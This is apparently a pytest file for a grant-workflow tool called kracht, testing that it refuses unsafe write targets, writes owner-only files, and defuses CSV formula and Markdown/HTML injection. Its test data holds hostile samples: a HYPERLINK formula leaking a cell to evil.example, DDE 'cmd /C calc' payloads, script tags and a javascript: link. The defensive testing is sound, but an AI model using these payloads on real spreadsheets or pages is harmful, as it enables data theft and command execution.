"""The files kracht writes, and what it writes into them.

A user names a file with -o/--out: kracht refuses to write over a folder, a symbolic link, a
device or FIFO, or a file that is read-only, and leaves it as it was. What kracht creates is the
owner's only (files 0600, folders 0700): the database with its -wal and -shm files, mail files,
exports, audit exports, calendars and reports. No CSV cell runs as a spreadsheet formula, and no
narrative carries raw HTML into a Markdown report or breaks its tables.
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import stat
from email.message import EmailMessage
from pathlib import Path

import pytest

from kracht.cli import main
from kracht.workflow import engine
from kracht.workflow.config import default_document, scoring
from kracht.workflow.services import assignment, decisions, exports, progress_reports, score_sheets
from tests import factories as f
from tests.factories import COMMITTEE, THIS_YEAR, make_application, run, score_sheet

# -- every command that writes a file the user names --------------------------------------------

# name: (who runs it, the file's name, the command line for that file)
WRITERS = {
    "export applications": (f.LEADER, "out.csv", ("export", "applications", "-o")),
    "export decisions": (f.LEADER, "out.csv", ("export", "decisions", "-o")),
    "export indicators": (f.LEADER, "out.csv", ("export", "indicators", "-o")),
    "export reports": (f.LEADER, "out.csv", ("export", "reports", "-o")),
    "export as JSON": (f.LEADER, "out.json", ("export", "applications", "--format", "json", "-o")),
    "audit export": (f.AUDITOR, "audit.csv", ("audit", "export", "--format", "csv", "-o")),
    "audit export as JSON Lines": (f.AUDITOR, "audit.jsonl", ("audit", "export", "-o")),
    "scores export": (f.LEADER, "scores.csv", ("scores", "export", "--round", "2018-1", "-o")),
    "calendar": (f.MEMBER, "deadlines.ics", ("calendar", f.MEMBER, "--out")),
    "annual report": (
        f.LEADER,
        f"annual-report-{THIS_YEAR}.md",
        ("report", "annual", "--year", str(THIS_YEAR), "--out"),
    ),
}
FOLDER_WRITERS = {"annual report"}  # --out names the folder; the file is one of those in it


@pytest.fixture(scope="module")
def scored_template(sqlite_template: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A seeded database with one application scored in round 2018-1, built once."""
    from kracht.storage.database import engine_for

    path = tmp_path_factory.mktemp("scored") / "kracht.db"
    shutil.copyfile(sqlite_template, path)
    world = f.seed(f"sqlite:///{path}")
    make_application(world, stage="steering_decision", round_label="2018-1")
    engine_for(world.url).dispose()
    return path


@pytest.fixture
def scored(scored_template: Path, tmp_path: Path) -> f.World:
    """Every writer has something to write: a fresh copy of `scored_template`."""
    path = tmp_path / "kracht.db"
    shutil.copyfile(scored_template, path)
    return f.World(f"sqlite:///{path}")


def kracht(world, capsys, writer: str, target: Path) -> tuple[int, str, str]:
    """Run `writer` so that it writes `target`; the exit code, standard output and error."""
    user, _, argv = WRITERS[writer]
    where = target.parent if writer in FOLDER_WRITERS else target
    code = main(["--db", world.url, "--as", user, *argv, str(where)])
    out, err = capsys.readouterr()
    return code, out, err


def mode(path: Path) -> int:
    return os.stat(path).st_mode & 0o777


# -- refused targets ----------------------------------------------------------------------------


def _device(target: Path) -> None:
    """A character device node like /dev/full (1, 7), made here: a test that got it wrong must
    not replace the machine's own /dev/full."""
    try:
        os.mknod(target, stat.S_IFCHR | 0o666, os.makedev(1, 7))
    except PermissionError:
        reason = "making a device node needs CAP_MKNOD"
        if os.environ.get("CI") == "true":
            pytest.fail(f"{reason}; under CI the device cases must run, not skip")
        pytest.skip(reason)


TARGETS = {
    "a folder": (lambda target, victim: target.mkdir(), "it is a folder; name a file to write"),
    "a symbolic link": (
        lambda target, victim: target.symlink_to(victim),
        "it is a symbolic link to {victim}; name the file itself or another file",
    ),
    "a FIFO": (
        lambda target, victim: os.mkfifo(target),
        "it is a FIFO (named pipe), not a regular file; name a regular file to write",
    ),
    "a character device": (
        lambda target, victim: _device(target),
        "it is a character device, not a regular file; name a regular file to write",
    ),
    "a read-only file": (
        lambda target, victim: (target.write_text("keep me"), target.chmod(0o444)),
        "it is read-only for you (-r--r--r--); make it writable first or name another file",
    ),
}


def _what_stands(target: Path) -> tuple:
    """Everything a write over `target` would change: kind, mode, link, device and content."""
    found = os.lstat(target)
    link = os.readlink(target) if stat.S_ISLNK(found.st_mode) else None
    content = target.read_text() if stat.S_ISREG(found.st_mode) else None
    listing = sorted(os.listdir(target)) if stat.S_ISDIR(found.st_mode) else None
    return (stat.S_IFMT(found.st_mode), found.st_mode & 0o7777, found.st_rdev, link, content,
            listing)  # fmt: skip


@pytest.mark.parametrize("case", TARGETS)
@pytest.mark.parametrize("writer", WRITERS)
def test_a_file_that_is_no_plain_writable_file_is_refused_and_left_as_it_was(
    scored, tmp_path, capsys, writer, case
):
    folder = tmp_path / "out"
    folder.mkdir()
    target = folder / WRITERS[writer][1]
    victim = tmp_path / "victim.txt"
    victim.write_text("the victim's own text")
    make, message = TARGETS[case]
    make(target, victim)
    before, beside = _what_stands(target), sorted(os.listdir(folder))

    code, out, err = kracht(scored, capsys, writer, target)

    assert (code, out) == (1, "")
    assert err == f"kracht: cannot write {target}: {message.format(victim=victim)}\n"
    assert _what_stands(target) == before
    assert sorted(os.listdir(folder)) == beside  # no temporary file, no other report file
    assert victim.read_text() == "the victim's own text"


@pytest.mark.parametrize("writer", sorted(set(WRITERS) - FOLDER_WRITERS))
def test_the_current_folder_as_the_file_is_refused_in_one_line(
    scored, tmp_path, capsys, monkeypatch, writer
):
    monkeypatch.chdir(tmp_path)
    user, _, argv = WRITERS[writer]

    code = main(["--db", scored.url, "--as", user, *argv, "."])

    out, err = capsys.readouterr()
    assert (code, out) == (1, "")
    assert err == "kracht: cannot write .: it is a folder; name a file to write\n"
    assert [p.name for p in tmp_path.iterdir() if not p.name.startswith("kracht.db")] == []


# -- owner-only files and folders ---------------------------------------------------------------


@pytest.mark.parametrize("writer", WRITERS)
def test_every_file_kracht_writes_is_the_owners_only(scored, tmp_path, capsys, writer):
    target = tmp_path / "new" / WRITERS[writer][1]
    if writer not in FOLDER_WRITERS:
        target.parent.mkdir()

    code, _, err = kracht(scored, capsys, writer, target)

    assert code == 0
    assert "kracht:" not in err
    written = [target] if writer not in FOLDER_WRITERS else list(target.parent.iterdir())
    assert target in written
    assert len(written) == (1 if writer not in FOLDER_WRITERS else 7)  # .html, .md, .pdf, 4 .svg
    assert {p.name: mode(p) for p in written} == {p.name: 0o600 for p in written}
    if writer in FOLDER_WRITERS:
        assert mode(target.parent) == 0o700


def test_a_file_written_again_keeps_the_permissions_its_owner_gave_it(scored, tmp_path, capsys):
    target = tmp_path / "shared.csv"
    target.write_text("old\n")
    target.chmod(0o640)

    code, _, _ = kracht(scored, capsys, "export applications", target)

    assert code == 0
    assert target.read_text().startswith("id,title,")
    assert mode(target) == 0o640


@pytest.mark.parametrize("how", ["kracht init", "a first connection"])
def test_a_new_database_its_wal_and_shm_files_and_its_folders_are_the_owners_only(tmp_path, how):
    from kracht.storage.database import engine_for

    path = tmp_path / "new" / "data" / "kracht.db"
    url = f"sqlite:///{path}"
    if how == "kracht init":
        assert main(["--db", str(path), "init"]) == 0
    else:
        path.parent.mkdir(parents=True, mode=0o700)

    with engine_for(url).connect() as connection:  # open: SQLite keeps -wal and -shm meanwhile
        connection.exec_driver_sql("CREATE TABLE IF NOT EXISTS probe (x INTEGER)")
        connection.exec_driver_sql("INSERT INTO probe VALUES (1)")
        connection.commit()
        files = {p.name: mode(p) for p in path.parent.iterdir()}
    engine_for(url).dispose()

    assert files == {"kracht.db": 0o600, "kracht.db-wal": 0o600, "kracht.db-shm": 0o600}
    if how == "kracht init":  # kracht made the folders too
        assert (mode(tmp_path / "new"), mode(path.parent)) == (0o700, 0o700)


def _message(number: int) -> EmailMessage:
    message = EmailMessage()
    message["Message-ID"] = f"<{number}.kracht@example.org>"
    message["To"] = f.MEMBER
    message["Subject"] = "Scores due"
    message.set_content("Please score application 1.")
    return message


def test_mail_files_are_the_owners_only_and_never_written_through_a_planted_link(tmp_path):
    from kracht.notifications.transports import FileTransport

    folder = tmp_path / "mail" / "out"
    victim = tmp_path / "victim.txt"
    victim.write_text("the victim's own text")
    folder.mkdir(parents=True)
    (folder / "1.kracht_at_example.org.eml.part").symlink_to(victim)  # the old fixed name
    transport = FileTransport(folder)

    transport.send(_message(1))
    transport.send(_message(1))  # sent again: the same file, replaced
    FileTransport(tmp_path / "fresh" / "mail").send(_message(2))

    assert victim.read_text() == "the victim's own text"
    written = folder / "1.kracht_at_example.org.eml"
    assert "Please score application 1." in written.read_text()
    assert mode(written) == 0o600
    assert sorted(p.name for p in folder.iterdir()) == [
        "1.kracht_at_example.org.eml",
        "1.kracht_at_example.org.eml.part",
    ]
    fresh = tmp_path / "fresh" / "mail"
    assert (mode(tmp_path / "fresh"), mode(fresh)) == (0o700, 0o700)
    assert mode(fresh / "2.kracht_at_example.org.eml") == 0o600


# -- what goes into the files -------------------------------------------------------------------

TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click") <b>R&D</b> | x'
REASON = "+cmd|' /C calc'!A0"
INDICATOR = "@SUM(1+1)*cmd|' /C calc'!A0"
MOTIVATION = "=1+1, convincing"
NARRATIVE = "<script>alert(1)</script>\n| forged | row |\n# Forged heading"
MEASURES = "-2+3+cmd|' /C calc'!A0"
HOSTILE = {TITLE, REASON, INDICATOR, MOTIVATION, NARRATIVE, MEASURES}


@pytest.fixture
def hostile(world):
    """A project in monitoring whose applicant, members and leader typed formulas and HTML."""
    url = world.url
    app_id = make_application(world, stage="kracht_scoring", title=TITLE, round_label="2018-1")
    applications_add_indicator(url, app_id)
    run(url, f.CHAIR, assignment.declare, app_id, None)
    criteria = scoring(default_document()).criteria
    run(url, f.CHAIR, score_sheets.score, app_id, {c.key: ("4", MOTIVATION) for c in criteria})
    run(url, f.CHAIR, score_sheets.submit, app_id)
    for member in COMMITTEE[1:]:
        score_sheet(world, app_id, member)
    run(url, f.CHAIR, engine.fire, app_id, "submit_advice", values=f.ADVICE)
    run(url, f.STEERING, decisions.decide, app_id, "approve", reason=REASON, amount="64389")
    run(url, f.LEADER, progress_reports.replan, app_id, start_on=f"{THIS_YEAR}-01-01",
                            end_on=f"{THIS_YEAR + 1}-12-31")  # fmt: skip
    run(url, f.LEADER, progress_reports.submit, app_id, f"{THIS_YEAR}-Q1", light="red",
                            narrative=NARRATIVE, spent="1000", measures=MEASURES,
                            values={INDICATOR: "-5"}, received_on=f"{THIS_YEAR}-04-01")  # fmt: skip
    return world


def applications_add_indicator(url: str, app_id: int) -> None:
    from kracht.workflow.services import applications

    indicator = {
        "name": INDICATOR,
        "measured_in": "degrees Celsius",
        "baseline": "-5",
        "target": "10",
    }
    run(
        url,
        f.LEADER,
        applications.add_indicator,
        app_id,
        **indicator,
        target_date=f"{THIS_YEAR}-12-31",
    )


FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


CSV_EXPORTS = {
    "applications": (f.LEADER, ("export", "applications", "--format", "csv")),
    "decisions": (f.LEADER, ("export", "decisions", "--format", "csv")),
    "indicators": (f.LEADER, ("export", "indicators", "--format", "csv")),
    "reports": (f.LEADER, ("export", "reports", "--format", "csv")),
    "audit": (f.AUDITOR, ("audit", "export", "--format", "csv")),
    "scores": (f.LEADER, ("scores", "export", "--round", "2018-1")),
}


def test_no_csv_cell_runs_as_a_formula_numbers_stay_numbers_and_json_keeps_all(hostile, capsys):
    for name, (user, argv) in CSV_EXPORTS.items():
        assert main(["--db", hostile.url, "--as", user, *argv]) == 0, name
        rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
        cells = [cell for row in rows for cell in row]

        formulas = [c for c in cells if c.startswith(FORMULA_START) and not _is_number(c)]
        quoted = {c[1:] for c in cells if c[:1] == "'"}
        assert (name, formulas) == (name, [])
        assert quoted & HOSTILE, name  # the hostile text is there, defused
        assert quoted <= {c for c in HOSTILE if c.startswith(FORMULA_START)}, name
    text = run(hostile.url, f.LEADER, exports.export, "indicators", "csv")[0]
    hostile_rows = [r for r in csv.DictReader(io.StringIO(text)) if r["name"] == "'" + INDICATOR]
    assert [(r["baseline"], r["value"]) for r in hostile_rows] == [("-5", "-5")]
    # JSON and JSON Lines keep what was typed
    (application,) = json.loads(
        run(hostile.url, f.LEADER, exports.export, "applications", "json")[0]
    )
    main(["--db", hostile.url, "--as", f.AUDITOR, "audit", "export", "--format", "jsonl"])
    events = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert application["title"] == TITLE
    assert REASON in [e["reason"] for e in events]


def test_the_markdown_report_escapes_html_and_keeps_its_tables(hostile, tmp_path, capsys):
    code = main(["--db", hostile.url, "--as", f.LEADER, "report", "monitor", "--year",
                 str(THIS_YEAR), "--out", str(tmp_path)])  # fmt: skip

    md = (tmp_path / f"project-monitor-{THIS_YEAR}.md").read_text()
    lines = md.splitlines()
    assert code == 0
    assert "<script>" not in md
    assert "<b>" not in md
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in md
    assert not [line for line in lines if line.startswith(("| forged", "# Forged"))]
    (row,) = [line for line in lines if line.startswith(f"| {THIS_YEAR}-Q1 |") and "script" in line]
    assert _cells(row) == 8  # report, period, due, status, light, spent, narrative, measures
    assert _tables_keep_their_columns(lines)
    assert "| &lt;script&gt;alert(1)&lt;/script&gt; \\| forged \\| row \\| # Forged heading " in row
    assert "### " + str(_app_id(hostile)) + ". =HYPERLINK(" in md
    assert "&lt;b&gt;R&amp;D&lt;/b&gt; \\| x" in md


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("\tcmd", "'\tcmd"),
        ("\r=cmd", "'\r=cmd"),
        ("-2+3", "'-2+3"),
        ("-", "'-"),
        ("-5", "-5"),
        ("+3.25", "+3.25"),
        (-0.5, "-0.5"),
        ("1e-05", "1e-05"),
    ],
)
def test_a_cell_is_defused_unless_it_is_entirely_a_number(value, cell):
    from kracht.basics.csv_safe import csv_line

    assert next(csv.reader(io.StringIO(csv_line([value, "x"]), newline=""))) == [cell, "x"]


def _tables_keep_their_columns(lines: list[str]) -> bool:
    """Every row of every Markdown table has as many cells as the table's header."""
    header = None
    for line in lines:
        if not line.startswith("|"):
            header = None
        elif header is None:
            header = _cells(line)
        elif _cells(line) != header:
            return False
    return True


def _cells(row: str) -> int:
    """The cells of a Markdown table row: its unescaped pipes, less one."""
    pipes, escaped = 0, False
    for char in row:
        pipes += char == "|" and not escaped
        escaped = char == "\\" and not escaped
    return pipes - 1


def _app_id(world) -> int:
    (application,) = json.loads(run(world.url, f.LEADER, exports.export, "applications", "json")[0])
    return int(application["id"])


def test_markdown_text_leaves_no_link_image_code_or_emphasis_live():
    from kracht.workflow.reports.layout import markdown_text

    typed = "[link](javascript:alert(1)) ![pixel](http://evil.example/x.png) `code` *em*"

    assert markdown_text(typed) == (
        "\\[link\\](javascript:alert(1)) !\\[pixel\\](http://evil.example/x.png) "
        "\\`code\\` \\*em\\*"
    )
